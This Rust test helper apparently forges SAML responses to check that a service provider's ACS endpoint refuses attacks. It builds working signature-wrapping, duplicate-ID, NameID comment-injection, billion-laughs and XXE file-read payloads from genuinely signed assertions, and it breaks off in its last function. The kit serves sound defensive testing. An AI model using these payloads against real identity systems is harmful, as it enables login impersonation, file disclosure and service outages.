//! SAML 2.0 forgery kit for the ACS tests: builds IdP Responses, valid and hostile, and signs
//! and encrypts them with the real `xmlsec1` binary, so every signature is genuine XML-DSig
//! (enveloped signature + exclusive c14n) and every attack is built from real IdP signatures,
//! not strawmen. (Checked against Gatehouse's own ACS verification when written: the baselines
//! pass, every attack is refused.)
//!
//! ```ignore
//! let idp = SigningKey::rsa("idp");
//! let f = Forge::new("https://idp.example", sp_entity_id, &acs, Some(&request_id), "alice@corp.example")
//!     .at(helpers::test_time().unix_timestamp());
//! let mut evil = f.clone();
//! evil.assertion_id = random_id();
//! evil.name_id = "admin@corp.example".into();
//! let xml = wrap_assertion_in_extensions(&f, &idp, &evil);
//! // POST form: SAMLResponse = b64(&xml), RelayState = ...
//! ```
//!
//! The attack helpers that take an `evil` forge build the Response envelope (ID, Destination,
//! InResponseTo, Issuer, Status) from `f`, the legitimate flow, and use `evil` only for the
//! attacker's unsigned assertion, so `evil` is normally `f.clone()` with another `assertion_id`
//! and `name_id`. Documents are compact (no whitespace between elements) and carry no XML
//! declaration, except the DTD attacks.

#![allow(dead_code)]

use base64::Engine;
use quick_xml::events::{BytesStart, Event};
use quick_xml::name::ResolveResult;
use quick_xml::NsReader;
use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Command, Output};

/// `saml:` namespace.
pub const NS_ASSERTION: &str = "urn:oasis:names:tc:SAML:2.0:assertion";
/// `samlp:` namespace.
pub const NS_PROTOCOL: &str = "urn:oasis:names:tc:SAML:2.0:protocol";
/// `ds:` namespace.
pub const NS_DSIG: &str = "http://www.w3.org/2000/09/xmldsig#";
/// `xenc:` namespace.
pub const NS_XENC: &str = "http://www.w3.org/2001/04/xmlenc#";
/// The top-level status of a successful Response.
pub const STATUS_SUCCESS: &str = "urn:oasis:names:tc:SAML:2.0:status:Success";
/// The default NameID format.
pub const NAMEID_EMAIL: &str = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress";
/// What `comment_in_name_id` appends to the victim's NameID before signing.
pub const EVIL_SUFFIX: &str = ".evil.example";

/// An IdP (or SP) key pair with its self-signed certificate, both PEM (the key is PKCS#8).
#[derive(Clone, Debug)]
pub struct SigningKey {
    pub key_pem: String,
    pub cert_pem: String,
}

impl SigningKey {
    /// A fresh RSA 2048 key (aws-lc-rs generates it) and a self-signed certificate for `cn`.
    pub fn rsa(cn: &str) -> SigningKey {
        Self::generate(&rcgen::PKCS_RSA_SHA256, cn)
    }

    /// A fresh EC P-256 key and a self-signed certificate for `cn`.
    pub fn ec(cn: &str) -> SigningKey {
        Self::generate(&rcgen::PKCS_ECDSA_P256_SHA256, cn)
    }

    fn generate(alg: &'static rcgen::SignatureAlgorithm, cn: &str) -> SigningKey {
        let key = rcgen::KeyPair::generate_for(alg).expect("forge: generate key");
        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).expect("forge: cert params");
        params.distinguished_name = rcgen::DistinguishedName::new();
        params.distinguished_name.push(rcgen::DnType::CommonName, cn);
        let cert = params.self_signed(&key).expect("forge: self-sign");
        SigningKey { key_pem: key.serialize_pem(), cert_pem: cert.pem() }
    }

    /// The certificate as base64 DER on one line: what goes in `ds:X509Certificate` and in
    /// IdP metadata.
    pub fn cert_base64_der(&self) -> String {
        self.cert_pem.lines().filter(|l| !l.starts_with("-----")).map(str::trim).collect()
    }

    /// Whether this is an EC key (otherwise RSA).
    pub fn is_ec(&self) -> bool {
        rcgen::KeyPair::from_pem(&self.key_pem)
            .map(|k| k.algorithm() == &rcgen::PKCS_ECDSA_P256_SHA256)
            .unwrap_or(false)
    }

    /// The algorithm the attack helpers sign with: ecdsa-sha256 or rsa-sha256.
    pub fn alg(&self) -> Alg {
        if self.is_ec() {
            Alg::EcdsaSha256
        } else {
            Alg::RsaSha256
        }
    }
}

/// A fresh SAML ID: `_` and 32 hex digits.
pub fn random_id() -> String {
    format!("_{}", hex::encode(rand::random::<[u8; 16]>()))
}

/// What goes into a Response. Times are unix seconds.
#[derive(Clone, Debug)]
pub struct Forge {
    pub response_id: String,
    pub assertion_id: String,
    /// IdP entity id (both Response and Assertion Issuer).
    pub issuer: String,
    /// Response@Destination (the ACS URL).
    pub destination: Option<String>,
    /// On the Response and on SubjectConfirmationData.
    pub in_response_to: Option<String>,
    /// Conditions/AudienceRestriction/Audience (the SP entity id); None leaves out the
    /// AudienceRestriction (Conditions stays, with NotBefore/NotOnOrAfter).
    pub audience: Option<String>,
    /// SubjectConfirmationData@Recipient.
    pub recipient: String,
    /// Response, Assertion IssueInstant and AuthnInstant.
    pub issue_instant: i64,
    /// Conditions@NotBefore.
    pub not_before: i64,
    /// Conditions@NotOnOrAfter and SubjectConfirmationData@NotOnOrAfter.
    pub not_on_or_after: i64,
    pub name_id: String,
    /// Empty leaves out NameID@Format.
    pub name_id_format: String,
    /// The top-level StatusCode.
    pub status: String,
    /// Name as given; NameFormat `uri` when the name contains ':', else `basic`. Empty leaves
    /// out the AttributeStatement.
    pub attributes: Vec<(String, Vec<String>)>,
    /// AuthnStatement@SessionIndex; empty leaves it out.
    pub session_index: String,
}

impl Forge {
    /// A valid Response for `name_id`: fresh random IDs, audience `sp_entity_id`, Destination
    /// and Recipient `acs_url`, issued now and valid from now-5s to now+300s (real time; use
    /// [`Forge::at`] for the tests' fixed clock), email NameID format, Success, no attributes.
    pub fn new(issuer: &str, sp_entity_id: &str, acs_url: &str, in_response_to: Option<&str>, name_id: &str) -> Forge {
        Forge {
            response_id: random_id(),
            assertion_id: random_id(),
            issuer: issuer.to_string(),
            destination: Some(acs_url.to_string()),
            in_response_to: in_response_to.map(str::to_string),
            audience: Some(sp_entity_id.to_string()),
            recipient: acs_url.to_string(),
            issue_instant: 0,
            not_before: 0,
            not_on_or_after: 0,
            name_id: name_id.to_string(),
            name_id_format: NAMEID_EMAIL.to_string(),
            status: STATUS_SUCCESS.to_string(),
            attributes: Vec::new(),
            session_index: random_id(),
        }
        .at(time::OffsetDateTime::now_utc().unix_timestamp())
    }

    /// The same forge issued at `now` (unix seconds) and valid from now-5s to now+300s.
    pub fn at(mut self, now: i64) -> Forge {
        self.issue_instant = now;
        self.not_before = now - 5;
        self.not_on_or_after = now + 300;
        self
    }
}

/// A standalone `saml:Assertion` (it declares its own `saml` namespace, so it can be moved
/// anywhere), unsigned.
pub fn assertion_xml(f: &Forge) -> String {
    let mut x = format!(
        r#"<saml:Assertion xmlns:saml="{NS_ASSERTION}" ID="{}" Version="2.0" IssueInstant="{}"><saml:Issuer>{}</saml:Issuer>"#,
        esc(&f.assertion_id),
        instant(f.issue_instant),
        esc(&f.issuer)
    );
    x += "<saml:Subject><saml:NameID";
    if !f.name_id_format.is_empty() {
        x += &format!(r#" Format="{}""#, esc(&f.name_id_format));
    }
    x += &format!(">{}</saml:NameID>", esc(&f.name_id));
    x += r#"<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData"#;
    if let Some(irt) = &f.in_response_to {
        x += &format!(r#" InResponseTo="{}""#, esc(irt));
    }
    x += &format!(
        r#" NotOnOrAfter="{}" Recipient="{}"/></saml:SubjectConfirmation></saml:Subject>"#,
        instant(f.not_on_or_after),
        esc(&f.recipient)
    );
    x += &format!(
        r#"<saml:Conditions NotBefore="{}" NotOnOrAfter="{}">"#,
        instant(f.not_before),
        instant(f.not_on_or_after)
    );
    if let Some(aud) = &f.audience {
        x += &format!(
            "<saml:AudienceRestriction><saml:Audience>{}</saml:Audience></saml:AudienceRestriction>",
            esc(aud)
        );
    }
    x += "</saml:Conditions>";
    x += &format!(r#"<saml:AuthnStatement AuthnInstant="{}""#, instant(f.issue_instant));
    if !f.session_index.is_empty() {
        x += &format!(r#" SessionIndex="{}""#, esc(&f.session_index));
    }
    x += "><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>";
    if !f.attributes.is_empty() {
        x += "<saml:AttributeStatement>";
        for (name, values) in &f.attributes {
            let format = if name.contains(':') { "uri" } else { "basic" };
            x += &format!(
                r#"<saml:Attribute Name="{}" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:{format}">"#,
                esc(name)
            );
            for v in values {
                x += &format!("<saml:AttributeValue>{}</saml:AttributeValue>", esc(v));
            }
            x += "</saml:Attribute>";
        }
        x += "</saml:AttributeStatement>";
    }
    x += "</saml:Assertion>";
    x
}

/// A `samlp:Response` built from `f` (ID, Destination, InResponseTo, Issuer, Status) with
/// `assertion` inserted verbatim after Issuer and Status (it may be any text: several
/// assertions, an EncryptedAssertion, nothing).
pub fn response_xml(f: &Forge, assertion: &str) -> String {
    response_parts(f, None, assertion)
}

/// A Response with an optional `samlp:Extensions` (given whole) between Issuer and Status.
fn response_parts(f: &Forge, extensions: Option<&str>, body: &str) -> String {
    let mut x = format!(
        r#"<samlp:Response xmlns:samlp="{NS_PROTOCOL}" xmlns:saml="{NS_ASSERTION}" ID="{}" Version="2.0" IssueInstant="{}""#,
        esc(&f.response_id),
        instant(f.issue_instant)
    );
    if let Some(d) = &f.destination {
        x += &format!(r#" Destination="{}""#, esc(d));
    }
    if let Some(irt) = &f.in_response_to {
        x += &format!(r#" InResponseTo="{}""#, esc(irt));
    }
    x += &format!("><saml:Issuer>{}</saml:Issuer>", esc(&f.issuer));
    x += extensions.unwrap_or("");
    x += &format!(r#"<samlp:Status><samlp:StatusCode Value="{}"/></samlp:Status>"#, esc(&f.status));
    x += body;
    x += "</samlp:Response>";
    x
}

/// Signature algorithms. The digest follows: sha256, or sha1 for `RsaSha1`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Alg {
    RsaSha256,
    RsaSha1,
    EcdsaSha256,
}

impl Alg {
    fn signature_uri(self) -> &'static str {
        match self {
            Alg::RsaSha256 => "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
            Alg::RsaSha1 => "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
            Alg::EcdsaSha256 => "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
        }
    }

    fn digest_uri(self) -> &'static str {
        match self {
            Alg::RsaSha1 => "http://www.w3.org/2000/09/xmldsig#sha1",
            Alg::RsaSha256 | Alg::EcdsaSha256 => "http://www.w3.org/2001/04/xmlenc#sha256",
        }
    }
}

/// Sign the element whose `ID` attribute is `id` inside `xml` with `key`: an enveloped
/// signature (Reference `#id`, transforms enveloped-signature + exc-c14n, exc-c14n SignedInfo)
/// placed right after that element's Issuer child (or first, without one), as SAML requires,
/// with `keyinfo_cert` (if Some; it need not match `key`) as `ds:X509Certificate` in KeyInfo.
/// Returns the document without an XML declaration. Runs `xmlsec1 --sign`.
pub fn sign(xml: &str, id: &str, alg: Alg, key: &SigningKey, keyinfo_cert: Option<&SigningKey>) -> String {
    sign_placed(xml, id, id, alg, key, keyinfo_cert)
}

/// [`sign`], but the signature references `ref_id` while it sits in the element `parent_id`.
fn sign_placed(
    xml: &str,
    ref_id: &str,
    parent_id: &str,
    alg: Alg,
    key: &SigningKey,
    keyinfo_cert: Option<&SigningKey>,
) -> String {
    let target = locate(xml, ref_id);
    let parent = locate(xml, parent_id);
    let key_info = keyinfo_cert
        .map(|c| {
            format!(
                "<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>",
                c.cert_base64_der()
            )
        })
        .unwrap_or_default();
    let template = format!(
        concat!(
            r#"<ds:Signature xmlns:ds="{dsig}"><ds:SignedInfo>"#,
            r#"<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"#,
            r##"<ds:SignatureMethod Algorithm="{sig}"/><ds:Reference URI="#{id}"><ds:Transforms>"##,
            r#"<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>"#,
            r#"<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>"#,
            r#"<ds:DigestMethod Algorithm="{digest}"/><ds:DigestValue></ds:DigestValue></ds:Reference>"#,
            r#"</ds:SignedInfo><ds:SignatureValue></ds:SignatureValue>{key_info}</ds:Signature>"#
        ),
        dsig = NS_DSIG,
        sig = alg.signature_uri(),
        id = esc(ref_id),
        digest = alg.digest_uri(),
        key_info = key_info,
    );
    let doc = format!("{}{}{}", &xml[..parent.after_issuer], template, &xml[parent.after_issuer..]);
    let dir = tempfile::tempdir().expect("forge: tempdir");
    let key_path = write(dir.path(), "key.pem", &key.key_pem);
    let in_path = write(dir.path(), "in.xml", &doc);
    let out_path = dir.path().join("out.xml").to_string_lossy().into_owned();
    // xmlsec1 signs the FIRST ds:Signature of the document unless told otherwise: point it at
    // the only one whose SignatureValue is still empty, ours.
    let xpath = format!(
        "(//*[local-name()='Signature' and namespace-uri()='{NS_DSIG}'][*[local-name()='SignatureValue' and not(normalize-space(.))]])[1]"
    );
    let out = xmlsec1(&[
        "--sign",
        "--privkey-pem",
        &key_path,
        "--id-attr:ID",
        &target.name(),
        "--node-xpath",
        &xpath,
        "--output",
        &out_path,
        &in_path,
    ]);
    assert!(out.status.success(), "forge: xmlsec1 --sign failed:\n{}", String::from_utf8_lossy(&out.stderr));
    strip_declaration(&std::fs::read_to_string(&out_path).expect("forge: read signed output"))
}

/// Standard base64 (with padding, no line breaks), for the SAMLResponse form field.
pub fn b64(xml: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(xml.as_bytes())
}

/// Whether `xml` has at least one `ds:Signature` and every one of them verifies (see
/// [`xmlsec_signatures`]). Cryptography only, like a naive SP: it doesn't check WHAT was
/// signed, which is exactly what the wrapping attacks exploit.
pub fn xmlsec_verify(xml: &str, cert: &SigningKey) -> bool {
    let results = xmlsec_signatures(xml, cert);
    !results.is_empty() && results.iter().all(|ok| *ok)
}

/// Each `ds:Signature` of `xml`, in document order: whether it verifies under `xmlsec1 --verify`
/// with the public key of `cert` (`--pubkey-cert-pem`, key data `rsa,x509` or `ecdsa,x509`),
/// with the `ID` of every element that has one (Response, Assertion, Extensions, ...)
/// registered as an ID attribute.
pub fn xmlsec_signatures(xml: &str, cert: &SigningKey) -> Vec<bool> {
    let scan = scan(xml);
    let dir = tempfile::tempdir().expect("forge: tempdir");
    let cert_path = write(dir.path(), "cert.pem", &cert.cert_pem);
    let in_path = write(dir.path(), "in.xml", xml);
    let key_data = if cert.is_ec() { "ecdsa,x509" } else { "rsa,x509" };
    (1..=scan.signatures)
        .map(|i| {
            // xmlsec1 checks the first ds:Signature of the document unless told which.
            let xpath = format!("(//*[local-name()='Signature' and namespace-uri()='{NS_DSIG}'])[{i}]");
            let mut args = vec!["--verify", "--enabled-key-data", key_data, "--pubkey-cert-pem", cert_path.as_str()];
            for name in &scan.id_elements {
                args.extend(["--id-attr:ID", name.as_str()]);
            }
            args.extend(["--node-xpath", xpath.as_str(), in_path.as_str()]);
            xmlsec1(&args).status.success()
        })
        .collect()
}

/// An unsigned Response for `f` (a baseline the SP must refuse).
pub fn unsigned(f: &Forge) -> String {
    response_xml(f, &assertion_xml(f))
}

/// Valid: the assertion is signed, the Response is not (what most IdPs send).
pub fn signed_assertion(f: &Forge, key: &SigningKey) -> String {
    response_xml(f, &signed_assertion_xml(f, key))
}

/// Valid: the Response is signed, the assertion inside is not.
pub fn signed_response(f: &Forge, key: &SigningKey) -> String {
    sign(&unsigned(f), &f.response_id, key.alg(), key, Some(key))
}

/// Valid: the assertion is signed, then the Response around it.
pub fn signed_both(f: &Forge, key: &SigningKey) -> String {
    sign(&signed_assertion(f, key), &f.response_id, key.alg(), key, Some(key))
}

/// XSW (wrapping) attack: `f`'s assertion, legitimately signed, moved into the Response's
/// `samlp:Extensions`; the Response's one direct Assertion child is `evil`'s, unsigned (with
/// its own ID). The document's only signature verifies; an SP must check that it covers the
/// assertion it consumes.
pub fn wrap_assertion_in_extensions(f: &Forge, key: &SigningKey, evil: &Forge) -> String {
    let extensions = format!("<samlp:Extensions>{}</samlp:Extensions>", signed_assertion_xml(f, key));
    response_parts(f, Some(&extensions), &assertion_xml(evil))
}

/// XSW attack (XSW8 of "On Breaking SAML"): `evil`'s unsigned assertion is the Response's
/// child and carries, after its Issuer, the genuine signature of `f`'s assertion, with `f`'s
/// assertion itself, minus that signature (exactly the bytes that were digested), inside a
/// `ds:Object` of the signature. Reference `#f.assertion_id` now resolves into the Object. A
/// spec-correct verifier (xmlsec1 included) refuses it: the enveloped-signature transform
/// drops everything under the enclosing Signature, Object content included, so the digest is
/// over nothing. It fools verifiers whose enveloped transform merely deletes "the Signature
/// inside the referenced element" (there is none) and SPs that then read `Response/Assertion`.
pub fn wrap_assertion_in_signature_object(f: &Forge, key: &SigningKey, evil: &Forge) -> String {
    let (original, signature) = split_signature(&signed_assertion_xml(f, key));
    let signature = format!(
        "{}<ds:Object>{original}</ds:Object></ds:Signature>",
        signature.strip_suffix("</ds:Signature>").expect("forge: signature end")
    );
    let evil_assertion = assertion_xml(evil);
    let at = locate(&evil_assertion, &evil.assertion_id).after_issuer;
    let evil_assertion = format!("{}{signature}{}", &evil_assertion[..at], &evil_assertion[at..]);
    response_xml(f, &evil_assertion)
}

/// Two assertions side by side in the Response: `f`'s, signed, then `evil`'s, unsigned. An SP
/// must refuse any Response without exactly one assertion.
pub fn two_assertions(f: &Forge, key: &SigningKey, evil: &Forge) -> String {
    response_xml(f, &format!("{}{}", signed_assertion_xml(f, key), assertion_xml(evil)))
}

/// The Response carries a genuine signature as its child (after Issuer, where a Response
/// signature goes), but its Reference points to a `samlp:Extensions` element with its own ID,
/// not to the Response; the assertion is `evil`'s, unsigned. An SP must check that a
/// signature's Reference URI is the ID of the element it vouches for.
pub fn response_signature_over_other_element(f: &Forge, key: &SigningKey, evil: &Forge) -> String {
    let ext_id = random_id();
    let extensions = format!(
        r#"<samlp:Extensions ID="{ext_id}"><ext:Note xmlns:ext="urn:example:forge">signed by the IdP</ext:Note></samlp:Extensions>"#
    );
    let unsigned = response_parts(f, Some(&extensions), &assertion_xml(evil));
    sign_placed(&unsigned, &ext_id, &f.response_id, key.alg(), key, Some(key))
}

/// Duplicate-ID attack: `f`'s assertion, signed, sits in `samlp:Extensions` (first in document
/// order); the Response's Assertion child is `evil`'s, reusing `f.assertion_id` and carrying a
/// copy of the genuine signature. A verifier that resolves `#id` to the first element with it
/// checks the original; an SP that then reads `Response/Assertion` gets the evil one. An SP must
/// refuse duplicate IDs. (`xmlsec1` itself refuses the document: duplicate ID.)
pub fn duplicate_ids(f: &Forge, key: &SigningKey, evil: &Forge) -> String {
    let signed = signed_assertion_xml(f, key);
    let (_, signature) = split_signature(&signed);
    let mut evil = evil.clone();
    evil.assertion_id = f.assertion_id.clone();
    let evil_assertion = assertion_xml(&evil);
    let at = locate(&evil_assertion, &evil.assertion_id).after_issuer;
    let evil_assertion = format!("{}{signature}{}", &evil_assertion[..at], &evil_assertion[at..]);
    response_parts(f, Some(&format!("<samlp:Extensions>{signed}</samlp:Extensions>")), &evil_assertion)
}

/// Comment-injection attack (CVE-2017-11427 family): the IdP signs an assertion whose NameID is
/// `f.name_id` + [`EVIL_SUFFIX`] (`alice@corp.example.evil.example`, an address the attacker
/// can register), then the attacker inserts `<!---->` after `f.name_id`
/// (`alice@corp.example<!---->.evil.example`). Exclusive c14n without comments drops comments,
/// so the signature still verifies (checked here with xmlsec1); an SP that reads only the first
/// text node logs in as `f.name_id`. Attributes are signed as given. The Response is unsigned.
pub fn comment_in_name_id(f: &Forge, key: &SigningKey) -> String {
    let mut signed_for = f.clone();
    signed_for.name_id = format!("{}{EVIL_SUFFIX}", f.name_id);
    let signed = signed_assertion_xml(&signed_for, key);
    let needle = format!(">{}{}</saml:NameID>", esc(&f.name_id), esc(EVIL_SUFFIX));
    let at = signed.find(&needle).expect("forge: NameID in signed assertion") + 1 + esc(&f.name_id).len();
    let assertion = format!("{}<!---->{}", &signed[..at], &signed[at..]);
    let xml = response_xml(f, &assertion);
    assert!(xmlsec_verify(&xml, key), "forge: comment injection broke the signature");
    xml
}

/// Billion laughs: an unsigned Response for `f` behind a DTD of 10 entities of 10 references
/// each (`&lol9;` expands to 10^9 "lol"), used as the NameID. An SP must refuse DTDs before
/// expanding anything.
pub fn with_doctype_bomb(f: &Forge) -> String {
    let mut dtd = String::from("<!DOCTYPE samlp:Response [\n<!ENTITY lol0 \"lol\">\n");
    for i in 1..10 {
        dtd += &format!("<!ENTITY lol{i} \"{}\">\n", format!("&lol{};", i - 1).repeat(10));
    }
    dtd += "]>\n";
    with_dtd(f, &dtd, "&lol9;")
}

/// XXE: an unsigned Response for `f` behind a DTD declaring `<!ENTITY x SYSTEM "...">`, used as
/// the NameID. `path` is an absolute file path (it becomes `file://path`, e.g. `/etc/passwd`)
/// or any URI as is (e.g. an `http://127.0.0.1:PORT/` listener, to catch out-of-band fetches).
pub fn with_external_entity(f: &Forge, path: &str) -> String {
    let uri = if path.starts_with('/') { format!("file://{path}") } else { path.to_string() };
    let dtd = format!("<!DOCTYPE samlp:Response [\n<!ENTITY x SYSTEM \"{}\">\n]>\n", esc(&uri));
    with_dtd(f, &dtd, "&x;")
}

fn with_dtd(f: &Forge, dtd: &str, name_id_ref: &str) -> String {
    const PLACEHOLDER: &str = "FORGE-ENTITY-REFERENCE";
    let mut g = f.clone();
    g.name_id = PLACEHOLDER.to_string();
    let body = unsigned(&g).replace(&format!(">{PLACEHOLDER}<"), &format!(">{name_id_ref}<"));
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{dtd}{body}")
}

/// Block ciphers for the EncryptedData of an EncryptedAssertion.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum DataCipher {
    /// `xmlenc11#aes128-gcm` (the default).
    Aes128Gcm,
    /// `xmlenc#aes128-cbc`.
    Aes128Cbc,
    /// `xmlenc#aes256-cbc`.
    Aes256Cbc,
}

impl DataCipher {
    fn uri(self) -> &'static str {
        match self {
            DataCipher::Aes128Gcm => "http://www.w3.org/2009/xmlenc11#aes128-gcm",
            DataCipher::Aes128Cbc => "http://www.w3.org/2001/04/xmlenc#aes128-cbc",
            DataCipher::Aes256Cbc => "http://www.w3.org/2001/04/xmlenc#aes256-cbc",
        }
    }

    fn session_key(self) -> &'static str {
        match self {
            DataCipher::Aes128Gcm | DataCipher::Aes128Cbc => "aes-128",
            DataCipher::Aes256Cbc => "aes-256",
        }
    }
}

/// Valid encrypted flow: `f`'s assertion signed with `key`, then encrypted for the SP into a
/// `saml:EncryptedAssertion` (EncryptedData Type Element, aes128-gcm, session key wrapped with
/// rsa-oaep-mgf1p (SHA-1) for the RSA certificate `sp_enc_cert_pem`), in a Response that is
/// then signed too if `sign_response`.
pub fn encrypted_assertion(f: &Forge, key: &SigningKey, sp_enc_cert_pem: &str, sign_response: bool) -> String {
    encrypted_assertion_with(f, key, sp_enc_cert_pem, sign_response, DataCipher::Aes128Gcm)
}

/// [`encrypted_assertion`] with another data cipher.
pub fn encrypted_assertion_with(
    f: &Forge,
    key: &SigningKey,
    sp_enc_cert_pem: &str,
    sign_response: bool,
    cipher: DataCipher,
) -> String {
    let encrypted = encrypt(&signed_assertion_xml(f, key), sp_enc_cert_pem, cipher);
    let xml = response_xml(
        f,
        &format!(r#"<saml:EncryptedAssertion xmlns:saml="{NS_ASSERTION}">{encrypted}</saml:EncryptedAssertion>"#),
    );
    if sign_response {
        sign(&xml, &f.response_id, key.alg(), key, Some(key))
    } else {
        xml
    }
}

/// `f`'s assertion, NOT signed, encrypted for the SP into a `saml:EncryptedAssertion` element
/// (aes128-gcm): what an attacker who knows only the SP's public encryption certificate can make.
pub fn encrypted_unsigned_element(f: &Forge, sp_enc_cert_pem: &str) -> String {
    let encrypted = encrypt(&assertion_xml(f), sp_enc_cert_pem, DataCipher::Aes128Gcm);
    format!(r#"<saml:EncryptedAssertion xmlns:saml="{NS_ASSERTION}">{encrypted}</saml:EncryptedAssertion>"#)
}

/// `xml` (its root element) as an `xenc:EncryptedData`, for the RSA certificate `cert_pem`.
fn encrypt(xml: &str, cert_pem: &str, cipher: DataCipher) -> String {
    let template = format!(
        concat!(
            r#"<xenc:EncryptedData xmlns:xenc="{xenc}" Type="http://www.w3.org/2001/04/xmlenc#Element">"#,
            r#"<xenc:EncryptionMethod Algorithm="{data}"/><ds:KeyInfo xmlns:ds="{dsig}"><xenc:EncryptedKey>"#,
            r#"<xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p">"#,
            r#"<ds:DigestMethod Algorithm="http://www.w3.org/2000/09/xmldsig#sha1"/></xenc:EncryptionMethod>"#,
            r#"<xenc:CipherData><xenc:CipherValue/></xenc:CipherData></xenc:EncryptedKey></ds:KeyInfo>"#,
            r#"<xenc:CipherData><xenc:CipherValue/></xenc:CipherData></xenc:EncryptedData>"#
        ),
        xenc = NS_XENC,
        data = cipher.uri(),
        dsig = NS_DSIG,
    );
    let dir = tempfile::tempdir().expect("forge: tempdir");
    let cert_path = write(dir.path(), "cert.pem", cert_pem);
    let template_path = write(dir.path(), "template.xml", &template);
    let data_path = write(dir.path(), "data.xml", xml);
    let out_path = dir.path().join("out.xml").to_string_lossy().into_owned();
    let out = xmlsec1(&[
        "--encrypt",
        "--pubkey-cert-pem",
        &cert_path,
        "--session-key",
        cipher.session_key(),
        "--xml-data",
        &data_path,
        "--output",
        &out_path,
        &template_path,
    ]);
    assert!(out.status.success(), "forge: xmlsec1 --encrypt failed:\n{}", String::from_utf8_lossy(&out.stderr));
    strip_declaration(&std::fs::read_to_string(&out_path).expect("forge: read encrypted output"))
}

/// `f`'s assertion, standalone and signed with `key` (its certificate in KeyInfo).
fn signed_assertion_xml(f: &Forge, key: &SigningKey) -> String {
    sign(&assertion_xml(f), &f.assertion_id, key.alg(), key, Some(key))
}

/// Split a document holding exactly one `ds:Signature` into (the document without it, it).
fn split_signature(xml: &str) -> (String, String) {
    let start = xml.find("<ds:Signature").expect("forge: no ds:Signature");
    let end = xml.find("</ds:Signature>").expect("forge: no </ds:Signature>") + "</ds:Signature>".len();
    (format!("{}{}", &xml[..start], &xml[end..]), xml[start..end].to_string())
}

/// Where an element with a given ID is and what it is.
struct Located {
    ns: String,
    local: String,
    /// Byte offset right after its Issuer child (right after its start tag without one).
    after_issuer: usize,
}

impl Located {
    /// The `[<namespace-uri>:]<name>` xmlsec1's `--id-attr` wants.
    fn name(&self) -> String {
        qualified(&self.ns, &self.local)
    }
}

fn qualified(ns: &str, local: &str) -> String {
    if ns.is_empty() {
        local.to_string()
    } else {
        format!("{ns}:{local}")
    }
}

/// Find the (first) element whose `ID` attribute is `id`.
fn locate(xml: &str, id: &str) -> Located {
    let mut reader = NsReader::from_str(xml);
    loop {
        let (resolved, event) = reader.read_resolved_event().expect("forge: unparsable XML");
        match event {
            Event::Start(e) if has_id(&e, id) => {
                let ns = namespace(resolved);
                let local = String::from_utf8_lossy(e.local_name().as_ref()).into_owned();
                let mut after_issuer = reader.buffer_position() as usize;
                // Its first child element, if that is an Issuer.
                loop {
                    match reader.read_event().expect("forge: unparsable XML") {
                        Event::Start(child) if child.local_name().as_ref() == b"Issuer" => {
                            reader.read_to_end(child.name()).expect("forge: unparsable XML");
                            after_issuer = reader.buffer_position() as usize;
                            break;
                        }
                        Event::Empty(child) if child.local_name().as_ref() == b"Issuer" => {
                            after_issuer = reader.buffer_position() as usize;
                            break;
                        }
                        Event::Start(_) | Event::Empty(_) | Event::End(_) | Event::Eof => break,
                        _ => {}
                    }
                }
                return Located { ns, local, after_issuer };
            }
            Event::Empty(e) if has_id(&e, id) => panic!("forge: the element with ID {id} is empty"),
            Event::Eof => panic!("forge: no element with ID {id}"),
            _ => {}
        }
    }
}

/// What [`xmlsec_verify`] needs to know about a document.
struct Scan {
    signatures: usize,
    /// `--id-attr` names of the elements that have an `ID` attribute.
    id_elements: BTreeSet<String>,
}

fn scan(xml: &str) -> Scan {
    let mut reader = NsReader::from_str(xml);
    let mut scan = Scan { signatures: 0, id_elements: BTreeSet::new() };
    loop {
        let (resolved, event) = reader.read_resolved_event().expect("forge: unparsable XML");
        let ns = namespace(resolved);
        match event {
            Event::Start(e) | Event::Empty(e) => {
                let local = String::from_utf8_lossy(e.local_name().as_ref()).into_owned();
                if ns == NS_DSIG && local == "Signature" {
                    scan.signatures += 1;
                }
                if e.attributes().flatten().any(|a| a.key.as_ref() == b"ID") {
                    scan.id_elements.insert(qualified(&ns, &local));
                }
            }
            Event::Eof => return scan,
            _ => {}
        }
    }
}

fn namespace(resolved: ResolveResult) -> String {
    match resolved {
        ResolveResult::Bound(ns) => String::from_utf8_lossy(ns.as_ref()).into_owned(),
        _ => String::new(),
    }
}

fn has_id(e: &BytesStart, id: &str) -> bool {
    e.attributes().flatten().any(|a| a.key.as_ref() == b"ID" && a.unescape_value().is_ok_and(|v| v == id))
}

fn xmlsec1(args: &[&str]) -> Output {
    Command::new("xmlsec1").args(args).output().expect("forge: cannot run xmlsec1")
}

fn write(dir: &Path, name: &str, content: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, content).expect("forge: write temp file");
    path.to_string_lossy().into_owned()
}

/// xmlsec1 writes `<?xml version="1.0"?>` and a final newline; documents get embedded, so drop
/// both.
fn strip_declaration(xml: &str) -> String {
    let xml = xml.trim();
    match xml.strip_prefix("<?xml") {
        Some(rest) => rest[rest.find("?>").expect("forge: XML declaration end") + 2..].trim().to_string(),
        None => xml.to_string(),
    }
}

/// xs:dateTime in UTC, whole seconds.
fn instant(unix: i64) -> String {
    time::OffsetDateTime::from_unix_timestamp(unix)
        .expect("forge: time in range")
        .format(&time::format_description::well_known::Rfc3339)
